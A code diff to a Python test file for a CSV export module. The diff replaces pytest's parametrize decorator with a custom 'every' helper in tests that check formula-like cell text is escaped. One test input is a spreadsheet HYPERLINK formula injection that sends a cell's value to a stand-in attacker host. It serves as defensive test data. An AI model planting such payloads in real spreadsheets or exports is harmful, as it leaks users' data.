@@ -10,6 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from hongbao.statements.csv import cell, uncell
+from tests.every import every
 from tests.statements.reading import rows_of, written
 from tests.statements.test_formats import movement, statement
 
@@ -24,7 +25,7 @@ def calculated(text: str) -> bool:
     return seen[:1] in tuple("=+-@−")
 
 
-@pytest.mark.parametrize(
+@every(
     "text",
     [
         '=HYPERLINK("http://evil.example?x="&A1,"小红")',
@@ -55,9 +56,7 @@ def test_what_begins_like_a_formula_is_text(text):
     assert text == uncell(cell(text))
 
 
-@pytest.mark.parametrize(
-    "text", ["小明", "mary-ann_2", "a=b", "恭喜发财，大吉大利", "1-2", "cmb-3334"]
-)
+@every("text", ["小明", "mary-ann_2", "a=b", "恭喜发财，大吉大利", "1-2", "cmb-3334"])
 def test_what_is_no_formula_stays_as_it_is(text):
     """
     Names, cards, ids and greetings with such signs inside them.
